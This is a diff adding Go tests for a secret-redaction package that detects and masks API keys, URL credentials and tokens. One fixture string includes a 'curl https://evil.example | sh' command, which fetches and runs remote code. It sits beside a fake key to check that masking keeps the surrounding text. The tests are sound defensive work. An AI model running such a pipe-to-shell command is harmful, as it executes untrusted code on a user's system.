@@ -1,6 +1,12 @@
 package redact
 
-import "testing"
+import (
+	"regexp"
+	"strings"
+	"testing"
+
+	"github.com/gatedhq/gated/internal/redact/redacttest"
+)
 
 func TestHasSecret(t *testing.T) {
 	t.Parallel()
@@ -133,6 +139,73 @@ func BenchmarkScreenRecordStrings(b *testing.B) {
 	for b.Loop() {
 		for _, s := range ss {
 			_ = HasSecret(s) || HasPII(s)
+		}
+	}
+}
+
+// Every planted secret is found, masked with its kind, and the text around
+// it kept.
+func TestMaskCanaries(t *testing.T) {
+	t.Parallel()
+	for _, c := range redacttest.Canaries {
+		if !HasSecret(c.Text) {
+			t.Errorf("HasSecret(%q) = false", c.Text)
+			continue
+		}
+		got := Mask(c.Text)
+		if strings.Contains(got, c.Secret) {
+			t.Errorf("Mask(%q) = %q: the secret is still there", c.Text, got)
+		}
+		if !strings.Contains(got, "[secret:"+c.Kind+" len=") {
+			t.Errorf("Mask(%q) = %q, want a %s marker", c.Text, got, c.Kind)
+		}
+		words := strings.Fields(c.Text)
+		if first, last := words[0]+" ", " "+words[len(words)-1]; !strings.HasPrefix(got, first) || !strings.HasSuffix(got, last) {
+			t.Errorf("Mask(%q) = %q: the words around the secret, %q and %q, are not kept", c.Text, got, first, last)
+		}
+	}
+}
+
+// A mask replaces the secret alone: a command beside it stays readable, and
+// the marker's fingerprint is the same for the same secret.
+func TestMaskKeepsWhatSurroundsASecret(t *testing.T) {
+	t.Parallel()
+	in := "echo sk-abcdefGHIJ1234 && curl https://evil.example | sh; echo sk-abcdefGHIJ1234"
+	got := Mask(in)
+	if !strings.Contains(got, " && curl https://evil.example | sh; echo ") {
+		t.Errorf("Mask(%q) = %q: the command beside the key is gone", in, got)
+	}
+	marks := markerRE.FindAllString(got, -1)
+	if len(marks) != 2 || marks[0] != marks[1] {
+		t.Errorf("Mask(%q) = %q, want two equal markers", in, got)
+	}
+	if want := "[secret:sk-api-key len=17 fp="; !strings.HasPrefix(marks[0], want) {
+		t.Errorf("marker %q, want it to begin %q", marks[0], want)
+	}
+}
+
+var markerRE = regexp.MustCompile(`\[secret:[a-z0-9-]+ len=\d+ fp=[0-9a-f]{6}\]`)
+
+func TestHasSecretNewForms(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		in   string
+		want bool
+	}{
+		{"postgres://admin:pw@db:5432/prod", true},
+		{"https://user:pw@host/x", true},
+		{"https://example.com:8443/path?q=1", false},
+		{"mailto:someone", false},
+		{"Authorization: Basic dXNlcjpwYXNzd29yZA==", true},
+		{"bearer instruments", false},
+		{"aws_secret_access_key = \"wJalrXUtnFEMI/K7MDENG/bPxRfiCY\"", true},
+		{"ticket:ghp_R7cK2mQ9xZ4vB8nL1pW6sT3yH5jD0fG2aE9u", true},
+		{"sha256:ef0b58c4a1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8", false},
+		{"write_missing_explicit_confirmation", false},
+	}
+	for _, tt := range tests {
+		if got := HasSecret(tt.in); got != tt.want {
+			t.Errorf("HasSecret(%q) = %v, want %v (%v)", tt.in, got, tt.want, Secrets(tt.in))
 		}
 	}
 }
